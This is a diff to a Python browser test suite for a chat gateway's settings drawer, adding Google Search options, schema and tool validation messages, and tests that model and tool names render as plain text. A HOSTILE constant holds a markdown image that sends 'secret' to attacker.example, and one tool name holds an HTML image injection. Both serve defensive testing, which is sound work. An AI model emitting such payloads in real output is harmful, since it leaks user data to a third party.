@@ -1,17 +1,19 @@
 """The page's drawer: only what the model can take, and only what was set is sent."""
 
 import io
+from collections.abc import Iterator
 
 import grpc
 import pytest
 from PIL import Image
-from playwright.async_api import FilePayload, expect
+from playwright.async_api import FilePayload, Page, expect
 
+from tests.browser import PageAt
 from tests.gateway_ui.chat import Chat, Open
-from tests.tokenwire.fake_service import FakeService, Refusal, completed
+from tests.tokenwire.fake_service import FakeService, Refusal, Running, completed, tool_call
 from tokenwire import function, inline, model, struct, user
 from tokenwire.v1 import generation_service_pb2 as pb
-from tokenwire.v1.config_pb2 import GenerationConfig, Tool
+from tokenwire.v1.config_pb2 import FunctionDeclaration, GenerationConfig, GoogleSearch, Tool
 
 pytestmark = pytest.mark.browser
 
@@ -52,16 +54,16 @@ async def test_the_picker_tells_what_a_model_can_take(chat: Open) -> None:
 
 ALL = {
     *("Temperature", "Top P", "Top K", "Seed", "Longest answer", "Thinking budget"),
-    *("Presence penalty", "Frequency penalty", "Stop sequences", "Tools"),
+    *("Presence penalty", "Frequency penalty", "Stop sequences", "Google Search", "Tools"),
 }
 
 
 @pytest.mark.parametrize(
     ("name", "not_offered"),
     [
-        ("fake-1", {"Thinking budget", "Show the thoughts", "Tools"}),
+        ("fake-1", {"Thinking budget", "Show the thoughts", "Google Search", "Tools"}),
         ("fake-2", set()),
-        ("fake-3", {"Top K", "Thinking budget", "Show the thoughts", "Tools"}),
+        ("fake-3", {"Top K", "Thinking budget", "Show the thoughts", "Google Search", "Tools"}),
     ],
 )
 async def test_only_what_the_model_can_take_is_offered(chat: Open, name: str, not_offered: set[str]) -> None:
@@ -117,9 +119,19 @@ async def test_everything_that_is_set_is_sent(chat: Open, service: FakeService) 
 @pytest.mark.parametrize(
     ("field", "text", "words"),
     [
-        ("JSON schema", "{type: object}", "The JSON schema can't be read: Expecting property name"),
-        ("JSON schema", "[1]", "The JSON schema can't be read: it is no JSON object, such as {...}."),
-        ("Tools", '[{"nmae": "f"}]', "The tools can't be read: "),
+        ("JSON schema", "{type: object}", "The JSON schema can't be used: Expecting property name"),
+        ("JSON schema", "[1]", "The JSON schema can't be used: it is no JSON object, such as {...}."),
+        (
+            "JSON schema",
+            '{"type": "object", "properties": {"age": {"type": "strin"}}}',
+            "The JSON schema can't be used: properties.age.type: 'strin' is none of string, number, integer,",
+        ),
+        ("Tools", '[{"nmae": "f"}]', "The tools can't be used: [0].nmae: no key of a function; is 'name' meant?"),
+        (
+            "Tools",
+            '[{"type": "function", "function": {"name": "<img src=/x>![x](/y)"}}]',
+            "The tools can't be used: [0].function.name: '<img src=/x>![x](/y)' is none;",
+        ),
     ],
 )
 async def test_what_cannot_be_read_is_said_and_not_sent(
@@ -137,6 +149,72 @@ async def test_what_cannot_be_read_is_said_and_not_sent(
     await page.write(field, "")
     await page.tab.get_by_role("button", name="Retry").click()
     await expect(page.answer()).to_contain_text("Hello there.")
+
+
+HOSTILE = "![x](http://attacker.example/?q=secret) :material/home: $x$"
+
+
+@pytest.fixture(scope="module")
+def others() -> Iterator[FakeService]:
+    """A service of other models: the page asks each service for its models once a minute only."""
+    with Running() as running:
+        yield running
+
+
+@pytest.fixture
+async def other_chat(tab: Page, page_at: PageAt, others: FakeService) -> Chat:
+    others.reset().models[:] = [
+        pb.Model(name="searcher", default=True, tools=True),
+        pb.Model(name="no-searcher", tools=True, unsupported_fields=["tools.google_search"]),
+        pb.Model(name=HOSTILE, input_kinds=["text"]),
+    ]
+    await tab.goto(page_at(others.address))
+    chat = Chat(tab)
+    await expect(chat.input).to_be_visible()
+    await chat.settled()
+    return chat
+
+
+async def test_google_search_is_offered_where_the_model_can_and_sent_beside_tools(
+    other_chat: Chat, others: FakeService
+) -> None:
+    page = other_chat
+    await page.open_settings()
+    await page.flip("Google Search")
+    await page.write("Tools", '{"type": "function", "function": {"name": "f", "strict": true}}')
+    await answered(page)
+    assert list(others.requests[0].tools) == [
+        Tool(google_search=GoogleSearch()),
+        Tool(function_declarations=[FunctionDeclaration(name="f")]),
+    ]
+    await page.choose("no-searcher")
+    await page.open_settings()
+    await expect(page.tab.get_by_label("Tools", exact=True)).to_be_visible()
+    await expect(page.tab.get_by_text("Google Search", exact=True)).to_have_count(0)
+    await page.write("Tools", "")
+    await answered(page)
+    assert not others.requests[1].tools
+
+
+async def test_the_name_of_a_tool_is_shown_as_it_is_and_fetches_nothing(other_chat: Chat, others: FakeService) -> None:
+    others.will_answer(tool_call(HOSTILE, {}), completed())
+    await other_chat.ask("What is the weather?")
+    label = other_chat.tab.get_by_test_id("stForm").get_by_test_id("stWidgetLabel")
+    await expect(label).to_be_visible()
+    assert (await label.inner_text()).replace("\u2060", "") == f"Result of {HOSTILE}"
+    await expect(label.locator("img")).to_have_count(0)
+
+
+async def test_the_name_of_a_model_is_shown_as_it_is_and_fetches_nothing(other_chat: Chat, others: FakeService) -> None:
+    box = other_chat.tab.get_by_role("combobox", name="Model")
+    await box.click()
+    option = other_chat.tab.get_by_role("option").last
+    await expect(option).to_have_text(HOSTILE)
+    await option.click()
+    await expect(box).to_have_value(HOSTILE)
+    await answered(other_chat)
+    assert others.requests[0].model == HOSTILE
+    await expect(other_chat.tab.locator("img[src*=attacker]")).to_have_count(0)
 
 
 # ---- files
